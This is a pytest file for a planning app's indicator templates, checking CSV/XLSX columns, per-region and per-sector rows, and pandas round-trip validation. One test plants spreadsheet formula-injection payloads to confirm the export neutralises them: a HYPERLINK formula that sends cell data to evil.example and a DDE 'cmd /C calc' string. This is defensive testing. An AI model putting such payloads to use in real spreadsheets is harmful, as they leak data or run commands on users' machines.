"""The CSV/XLSX template of a "submit indicators" task: the importer's columns, one row per indicator × region ×
sector for last year, stored values prefilled, nothing a spreadsheet would run; filled in with pandas it passes the
importer's checks."""

from __future__ import annotations

import io

import pandas as pd
import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from planapp.extensions import db
from planapp.indicators.models import Category, Indicator
from planapp.indicators.queries import import_catalog
from planapp.indicators.validate import COLUMNS, read_table, validate
from tests.factories import signed_in
from tests.test_indicator_grid import HX, World

HOSTILE_SOURCE = '=HYPERLINK("http://evil.example/?x="&A1,"آمار")'
REGIONS = 22  # the province and its 21 counties
SECTIONS = 21  # ISIC sections A–U


@pytest.fixture
def w(ctx) -> World:
    return World()


def download(client, w: World, fmt: str):
    response = client.get(f"{w.url}/template.{fmt}")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith(f'attachment; filename="indicators-task-{w.task.id}-')
    return response


def csv_rows(data: bytes) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False, encoding="utf-8-sig")


def xlsx_rows(data: bytes) -> list[tuple]:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [tuple(cell.value for cell in row) for row in sheet.iter_rows()]


def test_the_csv_template_has_the_importers_columns_and_a_row_per_region_and_sector(w, client):
    browser = signed_in(client, w.officer)
    browser.post(w.url, data=w.form({w.cell("POP", 1404): "۳٬۹۰۹٬۶۵۲", w.cell("POP", 1403): "1"}), headers=HX)
    response = download(browser, w, "csv")
    assert response.mimetype == "text/csv" and response.data.startswith("\ufeff".encode())
    frame = csv_rows(response.data)
    assert tuple(frame.columns) == COLUMNS == ("indicator", "region", "sector", "year", "value", "source")
    assert len(frame) == 2 * REGIONS + REGIONS * SECTIONS  # POP and UNEMP, then EMP by sector
    assert set(frame["indicator"]) == {"POP", "UNEMP", "EMP"} and set(frame["year"]) == {"1404"}
    regions = frame.loc[frame.indicator == "POP", "region"].tolist()
    assert regions[0] == "EA" and len(set(regions[1:])) == REGIONS - 1  # the province, then each county once
    assert all(code.startswith("EA-") for code in regions[1:])
    assert set(frame.loc[frame.indicator == "POP", "sector"]) == {""}
    assert set(frame.loc[frame.indicator == "EMP", "sector"]) == {chr(c) for c in range(ord("A"), ord("U") + 1)}
    filled = frame[frame.value != ""]
    assert filled[["indicator", "region", "value"]].values.tolist() == [["POP", "EA", "3909652.0"]]  # last year


def test_the_xlsx_template_types_its_numbers(w, client):
    browser = signed_in(client, w.officer)
    browser.post(w.url, data=w.form({w.cell("UNEMP", 1404): "12.5"}), headers=HX)
    response = download(browser, w, "xlsx")
    assert response.mimetype.endswith("spreadsheetml.sheet")
    rows = xlsx_rows(response.data)
    assert rows[0] == COLUMNS
    assert len(rows) == 1 + 2 * REGIONS + REGIONS * SECTIONS
    assert ("UNEMP", "EA", None, 1404, 12.5, None) in rows


def test_nothing_in_the_template_is_run_by_a_spreadsheet(w, client):
    hostile = Indicator(code="-2+3", name="=cmd|' /C calc'!A0", category=Category.SOCIAL, unit="@SUM(1)",
                        source_agency_id=w.agency.id)
    db.session.add(hostile)
    db.session.commit()
    browser = signed_in(client, w.officer)
    browser.post(w.url, data=w.form({f"v-{hostile.id}-{w.sector['TOTAL'].id}-1404": "5",
                                     f"source-{hostile.id}": HOSTILE_SOURCE}), headers=HX)
    text = download(browser, w, "csv").data.decode("utf-8-sig")
    assert "'-2+3,EA,,1404,5.0,\"'=HYPERLINK(" in text
    assert "\n-2+3" not in text and ",=HYPERLINK" not in text
    sheet = load_workbook(io.BytesIO(download(browser, w, "xlsx").data)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert {cell.value for cell in cells if isinstance(cell.value, str) and cell.value.startswith("'")} == {
        "'-2+3", "'" + HOSTILE_SOURCE}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_template_filled_with_pandas_passes_the_importers_checks(w, client, fmt):
    browser = signed_in(client, w.officer)
    browser.post(w.url, data=w.form({w.cell("POP", 1404): "3909652", f"source-{w.ind['POP'].id}": "سرشماری"}),
                 headers=HX)
    data = download(browser, w, fmt).data
    frame = csv_rows(data) if fmt == "csv" else pd.read_excel(io.BytesIO(data), dtype=str).fillna("")
    frame["value"] = [f"{1000 + n}٫۵" if n % 3 else f"{n:,}" for n in range(len(frame))]  # Persian and Latin
    frame["source"] = frame["source"].where(frame["source"] != "", "برآورد دستگاه")
    filled = io.BytesIO()
    if fmt == "csv":
        frame.to_csv(filled, index=False, encoding="utf-8-sig")
    else:
        frame.to_excel(filled, index=False)
    table = read_table(filled.getvalue(), fmt, max_rows=10_000)
    result = validate(table, import_catalog())
    assert result.ok, result.problems[:5]
    assert len(result.rows) == len(frame) == 2 * REGIONS + REGIONS * SECTIONS
    emp = db.session.scalar(sa.select(Indicator.id).where(Indicator.code == "EMP"))
    assert set(result.rows.loc[result.rows.indicator_id == emp, "sector_id"]) >= {w.sector["A"].id,
                                                                                   w.sector["C"].id}
    assert result.rows.loc[0, "value"] == 0.0 and result.rows.loc[1, "value"] == 1001.5


def test_an_agency_without_indicators_gets_a_template_with_only_the_header(w, client):
    for code in ("POP", "UNEMP", "EMP"):
        w.ind[code].source_agency_id = None
    db.session.commit()
    frame = csv_rows(download(signed_in(client, w.officer), w, "csv").data)
    assert tuple(frame.columns) == COLUMNS and len(frame) == 0
